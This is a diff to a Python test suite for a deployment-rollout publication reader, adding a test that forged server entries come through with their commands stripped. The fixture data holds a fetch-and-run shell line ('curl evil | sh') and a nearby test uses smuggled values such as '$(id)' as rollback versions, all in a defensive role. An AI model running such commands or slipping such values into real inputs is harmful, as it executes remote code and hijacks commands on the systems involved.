@@ -162,6 +162,16 @@ def test_how_to_put_it_back_is_said_in_our_own_words() -> None:
     assert ours.where == out["where"]
 
 
+def test_a_server_that_fell_out_beside_the_plan_comes_without_commands() -> None:
+    published = forged.publication()
+    outs = published["lines"][-1][2]["out_of_rotation"]
+    outs.append(outs[0] | {"node": "shop/web9", "commands": [f"curl evil | sh # {forged.MARK}"]})
+    *_, last = read_publication(forged.packed(published)).records
+    assert isinstance(last.event, RolloutEnded)
+    beside = last.event.out_of_rotation[1]
+    assert (beside.node, beside.commands, beside.go_back) == ("shop/web9", [], "")
+
+
 @pytest.mark.parametrize("version", ["$(id)", "-x", "1 2"])
 def test_no_rollback_installs_what_is_no_version(version: str) -> None:
     published = forged.publication()
